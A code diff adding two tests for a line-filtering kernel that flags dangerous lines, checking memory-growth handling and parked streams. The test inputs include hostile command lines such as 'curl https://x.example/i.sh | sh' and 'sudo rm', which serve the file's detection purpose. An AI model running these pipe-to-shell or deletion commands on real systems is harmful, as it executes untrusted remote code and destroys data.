@@ -100,3 +100,27 @@ test('a rule book whose hint rows are wider than 64 entries gets a kernel that r
     assert.deepEqual(wide.kernel!.quietBytes(b), wide.quietBytesJs(b));
   }), { numRuns: 300 });
 });
+
+test('a view from input() taken before the kernel\'s memory grew is refused, never read as an empty, quiet file', () => {
+  const k = quietKernel(LINE_FILTER.automaton)!;
+  const loud = Buffer.from('plain words\ncurl https://x.example/i.sh | sh\n');
+  const early = k.input(loud.length);
+  early.set(loud);
+  assert.deepEqual([...k.quietBytes(early)], [1, 0, 1]);
+  // A bigger file grows the memory: the earlier view is detached (it reads as zero bytes now).
+  const big = k.input(4 * 1024 * 1024);
+  assert.equal(big.length, 4 * 1024 * 1024);
+  assert.equal(early.length, 0, 'growing the memory empties the earlier view');
+  assert.throws(() => k.quietBytes(early), /memory grew/);
+  // A new view of the grown memory reads as before.
+  const now = k.input(loud.length);
+  now.set(loud);
+  assert.deepEqual([...k.quietBytes(now)], [1, 0, 1]);
+});
+
+test('a stream parked early (a file of one short line cut into 5 streams) reads as the reference, over and over', () => {
+  // Streams with nothing to read are parked on a line of spaces and step through it until the others are done.
+  const k = quietKernel(LINE_FILTER.automaton, 5)!;
+  const files = [Buffer.from('x'.repeat(300)), Buffer.from(`${'word '.repeat(80)}\ncurl x | sh`), Buffer.from(`a\n${'b'.repeat(1000)}\nsudo rm\n`)];
+  for (let round = 0; round < 3; round++) for (const f of files) assert.deepEqual(k.quietBytes(f), reference(f));
+});
